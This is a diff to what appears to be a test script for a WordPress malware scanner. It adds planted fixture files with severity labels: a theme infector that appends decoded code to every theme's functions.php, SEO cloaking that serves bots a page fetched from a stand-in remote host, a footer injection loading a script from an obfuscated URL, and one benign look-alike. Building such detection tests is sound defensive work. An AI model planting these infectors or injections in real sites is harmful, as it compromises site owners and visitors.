@@ -945,5 +945,48 @@ add_filter( 'all_plugins', function ( $plugins ) {
 } );
 EOF
 
+## --- more spellings (stop 15): the same techniques written another way
+inject wp-content/mu-plugins/theme-cache-sync.php high new "theme infector: fopen(..,'a') + fwrite of an option's decoded code into every theme" theme-infector <<'EOF'
+<?php
+$tc_blob = base64_decode( get_option( 'wp_theme_cache_blob' ) );
+foreach ( scandir( get_theme_root() ) as $tc_theme ) {
+	if ( $tc_theme[0] == '.' ) continue;
+	$tc_file = get_theme_root() . '/' . $tc_theme . '/functions.php';
+	if ( is_file( $tc_file ) && strpos( file_get_contents( $tc_file ), 'wp_theme_cache_blob' ) === false ) {
+		$tc_h = fopen( $tc_file, 'a' );
+		fwrite( $tc_h, "\n" . $tc_blob );
+		fclose( $tc_h );
+	}
+}
+EOF
+inject wp-includes/class-wp-locale-cache.php high new "cloaking: the remote page's body echoed straight from wp_remote_retrieve_body to bots" seo-cloaking <<'EOF'
+<?php
+if ( preg_match( '/googlebot|bingbot|yandex/i', $_SERVER['HTTP_USER_AGENT'] ) ) {
+	$lc_r = wp_remote_get( 'http://links-feed.example.biz/p.php?h=' . $_SERVER['HTTP_HOST'] . '&u=' . urlencode( $_SERVER['REQUEST_URI'] ) );
+	echo wp_remote_retrieve_body( $lc_r );
+	exit;
+}
+EOF
+inject wp-content/mu-plugins/footer-fonts.php high new "PHP echoing a script whose address is spelled one character per array element and joined" js-injection <<'EOF'
+<?php
+add_action( 'wp_footer', function () {
+	echo '<script>var s=document.createElement("script");s.src=["h","t","t","p","s",":","/","/","c","d","n","-","f","n","t",".","e","x","a","m","p","l","e","/","f",".","j","s"].join("");document.head.appendChild(s);</script>';
+} );
+EOF
+inject wp-content/plugins/child-theme-helper/child-theme-helper.php benign new "look-alike: a child-theme helper appending a dated comment to its own child theme's functions.php" <<'EOF'
+<?php
+/* Plugin Name: Child Theme Helper */
+add_action( 'admin_post_cth_add_snippet', function () {
+	if ( ! current_user_can( 'edit_themes' ) ) wp_die( 'no' );
+	check_admin_referer( 'cth_add_snippet' );
+	$file = get_stylesheet_directory() . '/functions.php';
+	$h = fopen( $file, 'a' );
+	fwrite( $h, "\n// snippet added " . gmdate( 'c' ) . "\n" );
+	fclose( $h );
+	wp_safe_redirect( admin_url( 'themes.php' ) );
+	exit;
+} );
+EOF
+
 wp_site_scan_check scan_wp_site
 exit 0
